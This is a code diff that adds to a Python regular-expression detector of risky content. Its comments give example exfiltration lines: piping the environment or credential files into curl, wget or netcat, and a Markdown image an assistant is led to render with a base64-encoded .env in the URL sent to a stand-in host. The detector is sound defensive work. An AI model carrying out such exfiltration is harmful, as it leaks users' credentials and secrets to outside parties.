@@ -111,7 +111,11 @@ WEAKENING = re.compile(
     # a command that pipes the environment or a credential file into a network client (`env | base64 | curl -d @-`)
     r"|(?<![\w.-])(?:env|printenv|set|cat\s+[^\n|]{0,80}?(?:\.env|\.ssh/|\.aws/|\.npmrc|\.netrc|\.pypirc|"
     r"\.git-credentials|\.docker/config\.json|\.kube/config)[^\s|]*)\s*\|(?:[^\n|]{0,120}\|){0,3}\s*(?:curl|wget|nc|ncat|netcat)\b"
-    r"|\b(?:curl|wget)\s[^\n]{0,300}\$\((?:env|printenv)\)")
+    r"|\b(?:curl|wget)\s[^\n]{0,300}\$\((?:env|printenv)\)"
+    # a Markdown image or link the assistant is to render with a secret filled into its URL: the chat client fetches
+    # it, and the query string carries the secret out (`![ok](https://x.example/p.png?d=<base64 of .env>)`)
+    r"|!?\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{0,300}?(?:<|\{\{?|\$\{?|%)[^)>}\n]{0,80}?"
+    r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)")
 
 
 # A clause that forbids what follows: "Never disable TLS verification", "do not pipe curl into sh".
